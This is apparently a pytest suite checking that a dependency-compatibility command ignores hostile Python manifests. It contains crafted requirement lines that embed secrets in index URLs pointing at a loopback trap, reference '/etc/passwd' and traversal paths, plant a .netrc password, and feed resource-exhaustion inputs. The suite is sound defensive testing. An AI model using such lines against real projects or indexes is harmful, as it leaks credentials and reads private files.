"""Python manifests that want requests sent, files read, code run or the machine used up: `plumbrule compat` does none.

Everything listens: an index that was configured and records who asked what, and a second server on the same loopback
that no request may ever reach.
"""

import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from driving import MIB, Ground, Outcome
from python_index import LoopbackIndex, python_index

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="what a process tree uses is read from /proc")

SECRET = "hidden-w0rd-of-the-operator"
MEMORY_LIMIT_MIB = 2048
OURS_MIB = 700
"""What our own processes may take beside an engine at its limit."""


@pytest.fixture
def index() -> Iterator[LoopbackIndex]:
    with python_index() as serving:
        yield serving


@pytest.fixture
def trap() -> Iterator[LoopbackIndex]:
    """Offers everything that anybody might be lured into taking."""
    with python_index() as serving:
        for name in ("lib", "evil", "extra"):
            serving.wheel(name, "66.6")
        yield serving


def compat(ground: Ground, index: LoopbackIndex, *words: str, limit_s: float = 120) -> Outcome:
    ground.environment["PLUMBRULE_SOURCES__PYPI_URL"] = index.url
    return ground.plumbrule("compat", *words, "--python", "3.12", "--platform", "linux", "--json", limit_s=limit_s)


def repository(ground: Ground, name: str, files: dict[str, str]) -> str:
    folder = ground.base / name
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    return str(folder)


def not_checked(done: Outcome) -> set[tuple[str, str]]:
    """Place and reason of everything that no engine was told."""
    found: set[tuple[str, str]] = set()
    for side in done.document["repositories"]:
        found |= {(one["evidence"]["at"], one["evidence"]["rule"]) for one in side.get("not_checked", [])}
    return found


def planted(ground: Ground) -> str:
    """A folder of programs that would leave a canary if anybody ran them."""
    folder = ground.base / "planted"
    folder.mkdir()
    for name in ("uv", "git", "pip", "python", "python3", "sh"):
        program = folder / name
        program.write_text(f"#!/bin/sh\ntouch {ground.canaries}/{name}\n")
        program.chmod(0o755)
    return str(folder)


def lines(trap: LoopbackIndex, canary: Path) -> list[str]:
    """Every line that leads somewhere, and `lib`, which is fine."""
    return [
        f"--index-url {trap.url}",
        f"--extra-index-url {trap.origin}/${{SECRET}}/simple",
        f"--extra-index-url http://user:${{SECRET}}@127.0.0.1:{trap.port}/simple",
        f"--find-links {trap.origin}/files/",
        f"-f {canary.parent}",
        f"-r {trap.origin}/more.txt",
        f"-c {trap.origin}/limits.txt",
        f"-r {canary}",
        "-r /etc/passwd",
        "-r ../../outside.txt",
        f"evil @ {trap.origin}/files/evil-66.6-py3-none-any.whl",
        f"evil2 @ {trap.origin}/${{SECRET}}/evil2-1.0.tar.gz",
        f"{trap.origin}/files/evil-66.6-py3-none-any.whl",
        f"evil3 @ git+{trap.origin}/evil3.git",
        f"-e git+{trap.origin}/evil4.git#egg=evil4",
        f"evil5 @ file://{canary}",
        f"--trusted-host 127.0.0.1:{trap.port}",
        "--pre --no-binary :all:",
        "lib",
    ]


def test_no_line_sends_a_request_reads_a_file_or_expands_a_variable(
    ground: Ground, index: LoopbackIndex, trap: LoopbackIndex
) -> None:
    index.wheel("lib", "1.0")
    index.wheel("lib", "2.0")
    canary = ground.base / "elsewhere/private.txt"
    canary.write_text(f"extra\n# {SECRET}\n")
    (ground.base / "home/.netrc").write_text(f"machine 127.0.0.1 login me password {SECRET}\n")
    (ground.base / "home/.config").mkdir()
    configured = f'index-url = "{trap.url}"\nextra-index-url = ["{trap.url}"]\nfind-links = ["{trap.origin}/files"]\n'
    for place in ("home/.config/uv/uv.toml", "config/uv/uv.toml", "config/pip/pip.conf"):
        (ground.base / place).parent.mkdir(parents=True, exist_ok=True)
        (ground.base / place).write_text(configured if place.endswith("toml") else f"[global]\nindex-url={trap.url}\n")
    uv_table = (
        f'[tool.uv]\nfind-links = ["{trap.origin}/files"]\n[[tool.uv.index]]\nurl = "{trap.url}"\ndefault = true\n'
    )
    hostile = repository(
        ground,
        "hostile",
        {
            "requirements.txt": "\n".join(lines(trap, canary)) + "\n",
            "pyproject.toml": '[build-system]\nrequires = ["evil"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
            f'[project]\nname = "hostile"\ndynamic = ["dependencies", "version"]\n{uv_table}',
            "backend.py": f"open('{ground.canaries}/backend', 'w')\n",
            "setup.py": f"open('{ground.canaries}/setup', 'w')\n",
            "uv.toml": configured,
            "pip.conf": f"[global]\nindex-url={trap.url}\n",
            ".env": f"UV_INDEX_URL={trap.url}\n",
        },
    )
    plain = repository(ground, "plain", {"requirements.txt": "lib<2\n"})
    ground.environment |= {
        "SECRET": SECRET,
        "UV_INDEX_URL": trap.url,
        "UV_DEFAULT_INDEX": trap.url,
        "UV_EXTRA_INDEX_URL": trap.url,
        "UV_FIND_LINKS": f"{trap.origin}/files",
        "UV_CONFIG_FILE": f"{hostile}/uv.toml",
        "PIP_INDEX_URL": trap.url,
        "PIP_CONFIG_FILE": f"{hostile}/pip.conf",
    }
    done = compat(ground, index, hostile, plain)
    assert done.code in (0, 4), done.stderr
    assert done.document["verdict"] in ("compatible", "unknown")
    assert trap.requests == []
    assert not any(index.authorizations)
    assert {path.split("/")[2].partition("-")[0] for path in index.requests} == {"lib"}
    assert list(ground.canaries.iterdir()) == []
    everything = done.stdout + done.stderr.encode()
    assert SECRET.encode() not in everything
    assert b"root:" not in everything
    kept = [path for path in (ground.base / "cache").rglob("*") if path.is_file()]
    assert not [path for path in kept if SECRET.encode() in path.read_bytes()]
    assert (done.orphans, done.left) == ((), ())
    told = {rule for _, rule in not_checked(done)}
    wanted = {"requirement.url", "requirement.vcs", "requirement.path", "requirement.index-option"}
    assert told >= wanted | {"requirements.not-followed", "python.computed"}


def test_our_resolver_and_no_other_is_run(ground: Ground, index: LoopbackIndex, trap: LoopbackIndex) -> None:
    index.wheel("lib", "1.0")
    index.sdist("old", "1.0", form="1.0", setup=f"open('{ground.canaries}/built', 'w')\n")
    first = repository(ground, "first", {"requirements.txt": "lib\nold\n"})
    second = repository(ground, "second", {"requirements.txt": "lib\n"})
    env = ground.env() | {"PLUMBRULE_SOURCES__PYPI_URL": index.url}
    env["PATH"] = f"{planted(ground)}:{env['PATH']}"
    done = ground.plumbrule("compat", first, second, "--python", "3.12", "--json", env=env, cwd=Path(first))
    assert done.code == 4, done.stderr
    assert done.document["verdict"] == "unknown"
    assert list(ground.canaries.iterdir()) == []
    assert trap.requests == []


@pytest.mark.parametrize("how", ["--no-cache", "read-only"])
def test_who_keeps_nothing_finds_nothing_kept(ground: Ground, index: LoopbackIndex, how: str) -> None:
    index.wheel("lib", "1.0")
    first = repository(ground, "first", {"requirements.txt": "lib\n"})
    second = repository(ground, "second", {"requirements.txt": "lib>=1\n"})
    words = ["--no-cache"] if how == "--no-cache" else []
    if how == "read-only":
        if os.geteuid() == 0:
            pytest.skip("root writes everywhere")
        (ground.base / "cache").chmod(0o500)
    done = compat(ground, index, first, second, *words)
    assert done.code == 0, done.stderr
    assert done.document["verdict"] == "compatible"
    assert list((ground.base / "cache").iterdir()) == []
    assert (done.orphans, done.left) == ((), ())


@pytest.mark.attacks
@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        ("lib" + ",".join(f"!={n}" for n in range(2, 5_002)) + "\n", ("compatible", "unknown")),
        ("".join(f"lib>={n % 3}\n" for n in range(20_000)), ("compatible", "unknown")),
        ("".join(f"absent-{n}\n" for n in range(3_000)), ("unknown",)),
        ("lib" + "".join(f"[e{n}]" for n in range(2_000)) + "\n", ("compatible", "unknown")),
        (f"lib; {' and '.join(['python_version > ' + chr(39) + '3' + chr(39)] * 2_000)}\n", ("compatible", "unknown")),
        (f"lib; {'(' * 5_000}python_version > '3'{')' * 5_000}\n", ("compatible", "unknown")),
        ("lib=={}\n".format("9" * 100_000), ("compatible", "unknown", "incompatible")),
    ],
    ids=["clauses", "lines", "absent", "extras", "markers", "nesting", "digits"],
)
def test_size_alone_is_no_weapon(ground: Ground, index: LoopbackIndex, text: str, verdict: tuple[str, ...]) -> None:
    index.wheel("lib", "1.0")
    index.wheel("lib", "2.0")
    hostile = repository(ground, "hostile", {"requirements.txt": text})
    plain = repository(ground, "plain", {"requirements.txt": "lib\n"})
    done = compat(ground, index, hostile, plain)
    assert done.code in (0, 1, 4), done.stderr
    assert done.document["verdict"] in verdict
    assert done.peak_bytes < (MEMORY_LIMIT_MIB + OURS_MIB) * MIB
    assert done.orphans == ()


@pytest.mark.attacks
def test_an_exponential_graph_of_versions_ends_at_the_limit(ground: Ground, index: LoopbackIndex) -> None:
    """Eleven pigeons, ten holes: no solution, and a proof that grows beyond any memory (uv alone takes gigabytes)."""
    holes = 10
    for pigeon in range(holes + 1):
        for hole in range(1, holes + 1):
            others = [f"pigeon{other}!={hole}.0" for other in range(pigeon + 1, holes + 1)]
            index.wheel(f"pigeon{pigeon}", f"{hole}.0", *others)
    first = repository(ground, "first", {"requirements.txt": "pigeon0\npigeon1\npigeon2\n"})
    second = repository(ground, "second", {"requirements.txt": "".join(f"pigeon{n}\n" for n in range(3, holes + 1))})
    ground.environment["PLUMBRULE_RESOLUTION__WALL_S"] = "10"
    done = compat(ground, index, first, second, limit_s=240)
    assert done.code == 4, done.stdout[-2000:]
    assert done.document["verdict"] == "unknown"
    assert done.peak_bytes < (MEMORY_LIMIT_MIB + OURS_MIB) * MIB
    assert (done.orphans, done.left) == ((), ())


@pytest.mark.attacks
def test_a_hostile_index_cannot_blow_up_the_reader(ground: Ground, index: LoopbackIndex) -> None:
    """Pages and source distributions of an index are strangers' words too."""
    index.wheel("lib", "1.0")
    for number in range(1_000):
        index.sdist("old", f"1.{number}", form="1.0")
    index.sdist("nested", "1.0", *["x; " + "(" * 200 + "python_version > '3'" + ")" * 200])
    first = repository(ground, "first", {"requirements.txt": "lib\nold\nnested\n"})
    second = repository(ground, "second", {"requirements.txt": "lib\n"})
    done = compat(ground, index, first, second)
    assert done.code == 4, done.stderr
    assert _reason(done) in ("needs_build", "limit_hit")
    assert done.peak_bytes < (MEMORY_LIMIT_MIB + OURS_MIB) * MIB


def _reason(done: Outcome) -> Any:
    return next(one.get("reason") for one in done.document["ecosystems"] if one["ecosystem"] == "python")
